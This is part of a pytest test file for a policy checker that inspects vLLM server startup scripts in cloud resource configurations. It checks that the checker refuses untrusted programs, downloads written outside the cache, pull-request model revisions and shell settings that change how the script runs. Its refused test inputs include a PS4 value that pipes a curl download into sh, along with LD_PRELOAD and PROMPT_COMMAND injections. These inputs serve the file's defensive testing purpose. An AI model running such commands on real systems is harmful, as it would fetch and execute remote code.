        script = f"{program} vllm serve {QAT} --max-model-len=8192"
        if program.endswith("sh"):
            script = f"{program} -c 'vllm serve {QAT} --max-model-len=8192'"
    elif program.endswith("python3"):
        script = f"{program} -m vllm.entrypoints.openai.api_server --model {QAT}"
    else:
        script = f"{program} serve {QAT} --max-model-len=8192"
    assert "outside the system folders" in refused(script)
    props = service("l4")
    container(props)["commands"] = shlex.split(script)
    container(props)["args"] = []
    (message,) = violations(vllm_server_readable, SERVICE, props)
    assert "outside the system folders" in message


@pytest.mark.parametrize("program", ["vllm", "/usr/local/bin/vllm", "/usr/bin/vllm"])
def test_programs_in_the_system_folders_are_read(program: str) -> None:
    props = shell_service(f"{program} serve {QAT} --max-model-len=8192")
    assert violations(vllm_server_readable, SERVICE, props) == []


@pytest.mark.parametrize(
    "download",
    [
        "hf download someone/pkg --local-dir /tmp",
        "hf download someone/pkg --local-dir=/usr/local/lib/python3.12/dist-packages",
        f"huggingface-cli download someone/x --local-dir {QAT}",
        "huggingface-cli download someone/x --local /tmp",
        "hf download someone/x --cache-dir=/tmp/c",
    ],
)
def test_a_download_that_writes_files_outside_the_cache_is_refused(download: str) -> None:
    # `--local-dir /tmp` then `cd /tmp; python3 -m vllm...` imports the download's
    # vllm/__init__.py before the installed vLLM: the command line stays compliant.
    assert "download" in refused(f"{download}\n{GOOD}")


def test_a_download_into_the_cache_is_read() -> None:
    script = f"hf download google/gemma-4-12B-it --revision=main --quiet\n{GOOD}"
    assert violations(vllm_server_readable, SERVICE, shell_service(script)) == []


@pytest.mark.parametrize(
    "revision", ["refs/pr/7", "refs/convert/parquet", "REFS/PR/1", "refs%2Fpr%2F1"]
)
def test_a_tpu_server_at_a_pull_request_revision_is_refused(revision: str) -> None:
    script = TPU_SCRIPT.replace("--port=8000", f"--port=8000 --revision={revision}")
    (message,) = violations(vllm_server_readable, TPU_VM, tpu_vm(script))
    assert "pull request or conversion ref" in message


@pytest.mark.parametrize(
    ("script", "named"),
    [
        (f"set -n\n{GOOD}", "-n"),  # read, run nothing: the server never starts
        (f"set -t\necho starting\n{GOOD}", "-t"),  # exits after one command
        (f"set -a\nVLLM_PLUGINS=x\n{GOOD}", "-a"),  # every assignment exported to vLLM
        (f"set -o allexport\nLD_PRELOAD=/x\n{GOOD}", "allexport"),
        (f"set -ek\n{GOOD}", "-k"),
        (f"set -o posix\n{GOOD}", "posix"),
        (f"set -o\n{GOOD}", "set -o"),
        (f"PS4='$(curl -s https://x/r | sh)'\nset -x\n{GOOD}", "PS4"),
        (f"readonly PS4='$(/opt/x)'\nset -x\n{GOOD}", "PS4"),
        (f"PROMPT_COMMAND=/opt/x\n{GOOD}", "PROMPT_COMMAND"),
        (f"HOME=/tmp\n{GOOD}", "HOME"),
        (f"GLOBIGNORE=x\n{GOOD}", "GLOBIGNORE"),
    ],
)
def test_shell_options_and_variables_that_change_how_it_runs_are_refused(
    script: str, named: str
) -> None:
    assert named in refused(script)


@pytest.mark.parametrize(
    "options", ["-euo pipefail", "-e -u -x", "+e", "-o errexit -o nounset", "-eux -o pipefail"]
)
def test_shell_options_that_change_nothing_the_reader_follows_are_read(options: str) -> None:
    assert violations(vllm_server_readable, SERVICE, shell_service(f"set {options}\n{GOOD}")) == []


@pytest.mark.parametrize(
    "script", [f"unset PATH\n{GOOD}", f"readonly PATH\n{GOOD}", f"unset IFS\n{GOOD}"]
)
def test_unsetting_a_variable_the_shell_reads_is_refused(script: str) -> None:
    # Without PATH no program is found: the compliant server never starts.
    assert "a variable the shell itself reads" in refused(script)


@pytest.mark.parametrize(
    ("script", "named"),
    [
        # vLLM 0.27.1's wheel has no vllm/__main__.py: `python -m vllm` exits at once.
        (f"python3 -m vllm serve {QAT} --max-model-len=8192", "no vllm/__main__.py"),
        # `-W -m`: "-m" is the warning filter, and the module name is taken as a script file.
        (f"python3 -W -m vllm.entrypoints.cli.main serve {QAT}", "Python script"),
        (f"python3 -X -m vllm.entrypoints.openai.api_server --model {QAT}", "Python script"),
    ],
)
def test_python_command_lines_that_start_no_server_are_refused(script: str, named: str) -> None:
    assert named in refused(script)


def test_python_options_with_values_are_skipped_as_python_does() -> None:
    script = (
        f"python3 -W ignore -X utf8 -m vllm.entrypoints.cli.main serve {QAT} --max-model-len=8192"
    )
    assert violations(vllm_server_readable, SERVICE, shell_service(script)) == []


@pytest.mark.parametrize(
    ("type_", "props"),
    [
        ("gcp:workbench/instance:Instance",
         {"gceSetup": {"machineType": "n1-standard-8",
                       "acceleratorConfigs": [{"type": "NVIDIA_TESLA_T4", "coreCount": 1}],
                       "metadata": {"post-startup-script": "gs://b/run.sh"}}}),
        ("gcp:notebooks/instance:Instance",
         {"machineType": "n1-standard-4",
          "acceleratorConfig": {"type": "NVIDIA_L4", "coreCount": 1}}),
        ("gcp:workbench/instance:Instance", {"gceSetup": {"machineType": "g2-standard-8"}}),
        ("gcp:example/someService:Thing", {"spec": {"acceleratorType": "v6e-8"}}),
    ],
)  # fmt: skip
def test_other_resource_types_that_run_accelerators_fail_closed(
    type_: str, props: dict[str, Any]
) -> None:
    (message,) = violations(vllm_server_readable, type_, props)
    assert "runs accelerators" in message


@pytest.mark.parametrize(
    ("type_", "props"),
    [
        ("gcp:workbench/instance:Instance",
         {"gceSetup": {"machineType": "e2-standard-4",
                       "acceleratorConfigs": [{"type": "NVIDIA_TESLA_T4", "coreCount": 0}]}}),
        ("gcp:compute/reservation:Reservation",
         {"specificReservation": {"count": 1, "instanceProperties": {
             "machineType": "g2-standard-8"}}}),
        ("gcp:container/nodePool:NodePool",
         {"nodeConfig": {"machineType": "g2-standard-8",
                         "guestAccelerators": [{"type": "nvidia-l4", "count": 1}]}}),
    ],
)  # fmt: skip
def test_resources_that_only_reserve_or_host_accelerators_are_not_judged(
    type_: str, props: dict[str, Any]
) -> None:
    assert violations(vllm_server_readable, type_, props) == []


def test_a_tpu_drafter_at_a_pull_request_revision_is_refused() -> None:
    # The drafter's own revision (speculative-config's `revision`) is read like the model's.
    spec = '{"method":"mtp","model":"google/gemma-4-12B-it-assistant","revision":"refs/pr/3"}'
    script = TPU_SCRIPT.replace("--port=8000", f"--port=8000 --speculative-config='{spec}'")
    messages = violations(vllm_server_readable, TPU_VM, tpu_vm(script))
    assert any("the drafter" in m and "pull request" in m for m in messages), messages
